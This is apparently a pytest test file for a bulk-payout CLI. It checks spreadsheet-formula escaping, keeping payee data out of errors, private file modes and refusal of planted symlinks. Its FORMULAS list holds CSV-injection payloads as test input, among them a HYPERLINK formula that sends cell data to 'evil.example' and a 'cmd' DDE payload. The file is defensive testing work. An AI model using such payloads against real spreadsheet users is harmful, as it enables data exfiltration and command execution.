"""``payermax payouts bulk`` and the files it reads and writes: formulas, modes, symlinks, no payee
data in errors."""

from __future__ import annotations

import asyncio
import os
import stat
import sys
from pathlib import Path

import pytest

from payermax_async.cli import main
from payermax_async.sandbox import SandboxGateway
from tests.support.bulk import ACCOUNT, HEADER, NAME, read_results, row, write_csv

posix_only = pytest.mark.skipif(sys.platform == "win32", reason="POSIX modes and symlinks")

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
]


async def bulk(*argv: str) -> int:
    """Run the command off the event loop, so the in-process sandbox keeps serving."""
    return await asyncio.to_thread(main, ["payouts", "bulk", *argv])


def mode(path: Path) -> int:
    """A file's permission bits."""
    return stat.S_IMODE(path.stat().st_mode)


async def test_formula_cells_are_escaped_in_the_results_file(sandbox_env, tmp_path):
    """Invalid rows whose outTradeNo is a spreadsheet formula are written with a leading ' (text),
    so opening the results in a spreadsheet runs nothing; valid rows are written as they are."""
    rows = [row(number) for number in FORMULAS]
    source = write_csv(tmp_path / "in.csv", [row("ok_1"), *rows])
    out = tmp_path / "results.csv"
    assert await bulk(str(source), "--out", str(out), "--skip-invalid") == 3
    results = read_results(out)
    assert results[0]["outTradeNo"] == "ok_1"
    assert [r["outTradeNo"] for r in results[1:]] == ["'" + number for number in FORMULAS]
    assert [r["status"] for r in results] == ["PENDING"] + ["INVALID"] * len(FORMULAS)
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in results for cell in r.values())
    assert set(sandbox_env.ledger.orders) == {"ok_1"}


async def test_a_file_without_a_header_row_names_the_problem_not_the_payee(
    sandbox_env: SandboxGateway, tmp_path, capsys
):
    """A CSV whose first line is a payout: one line saying the header row is missing, without the
    account number or name of that first row; nothing sent."""
    source = tmp_path / "in.csv"
    cells = [row("nh_1")[column] for column in HEADER]
    source.write_text(",".join(cells) + "\n" + ",".join(cells).replace("nh_1", "nh_2") + "\n")
    assert await bulk(str(source), "--out", str(tmp_path / "out.csv")) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert "line 1 is not a header row" in err
    for secret in (ACCOUNT, NAME, *NAME.split()):
        assert secret not in err
    assert sandbox_env.ledger.post_count() == 0


async def test_an_unknown_column_that_is_not_a_name_is_shown_by_position(
    sandbox_env: SandboxGateway, tmp_path, capsys
):
    """A header cell that looks like data (spaces, digits) is named by its position, not its text."""
    source = write_csv(tmp_path / "in.csv", [row("uc_1")], header=[*HEADER, "Siti Rahayu"])
    assert await bulk(str(source), "--out", str(tmp_path / "out.csv")) == 1
    err = capsys.readouterr().err
    assert "unknown column(s) #9 (its text is not shown)" in err
    assert "Siti" not in err
    assert sandbox_env.ledger.post_count() == 0


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (b"outTradeNo,country\n\xff\xfe,ID\n", "is not UTF-8 text"),
        (
            ",".join(HEADER).encode() + b"\nbig_1," + b"x" * 200_000 + b"\n",
            "line 2 is not valid CSV",
        ),
    ],
    ids=["not-utf8", "oversized-cell"],
)
async def test_unreadable_files_are_one_line_naming_the_file(
    sandbox_env: SandboxGateway, tmp_path, capsys, content: bytes, problem: str
):
    """Bytes that are not UTF-8 or not CSV: one error line naming the file, no traceback."""
    source = tmp_path / "in.csv"
    source.write_bytes(content)
    assert await bulk(str(source), "--out", str(tmp_path / "out.csv")) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert str(source) in err
    assert problem in err
    assert "unexpected" not in err


@posix_only
async def test_results_journal_and_lock_files_are_private(sandbox_env, tmp_path):
    """Under a permissive umask, the results, the journal (and its WAL) and the lock are 0600."""
    previous = os.umask(0o002)
    try:
        source = write_csv(tmp_path / "in.csv", [row("pm_1"), row("pm_2")])
        out = tmp_path / "results.csv"
        assert await bulk(str(source), "--out", str(out)) == 0
    finally:
        os.umask(previous)
    created = [
        out,
        tmp_path / "results.csv.journal.sqlite",
        tmp_path / "results.csv.journal.sqlite.lock",
    ]
    created += [p for p in tmp_path.iterdir() if p.name.endswith(("-wal", "-shm"))]
    assert len(created) >= 3
    assert {p.name: mode(p) for p in created} == {p.name: 0o600 for p in created}


@posix_only
async def test_a_symlink_planted_at_the_temporary_results_file_is_not_followed(
    sandbox_env, tmp_path
):
    """results.csv.tmp pointing at another file: that file is left intact and the results are
    written where they belong, 0600."""
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    out = tmp_path / "results.csv"
    (tmp_path / "results.csv.tmp").symlink_to(victim)
    source = write_csv(tmp_path / "in.csv", [row("sl_1")])
    assert await bulk(str(source), "--out", str(out)) == 0
    assert victim.read_text() == "precious\n"
    assert [r["outTradeNo"] for r in read_results(out)] == ["sl_1"]
    assert not out.is_symlink()
    assert mode(out) == 0o600
    assert not (tmp_path / "results.csv.tmp").exists()


@posix_only
async def test_a_symlink_planted_at_the_lock_file_is_refused(sandbox_env, tmp_path, capsys):
    """results.csv.journal.sqlite.lock pointing elsewhere: one error line, nothing sent, the
    target neither created nor changed."""
    target = tmp_path / "elsewhere.lock"
    (tmp_path / "results.csv.journal.sqlite.lock").symlink_to(target)
    source = write_csv(tmp_path / "in.csv", [row("sk_1")])
    assert await bulk(str(source), "--out", str(tmp_path / "results.csv")) == 1
    assert capsys.readouterr().err.count("\n") == 1
    assert not target.exists()
    assert sandbox_env.ledger.post_count() == 0


def test_a_gateway_message_echoing_a_name_is_masked_in_the_results_error() -> None:
    """The results file's error column masks a payee name the gateway echoes back."""
    from payermax_async.bulk import describe
    from payermax_async.errors import error_for_code

    error = error_for_code("PARAMS_INVALID", "Account holder SITI RAHAYU does not match")
    text = describe(error)
    assert text.startswith("InvalidRequestError: PARAMS_INVALID: Account holder")
    assert "SITI" not in text
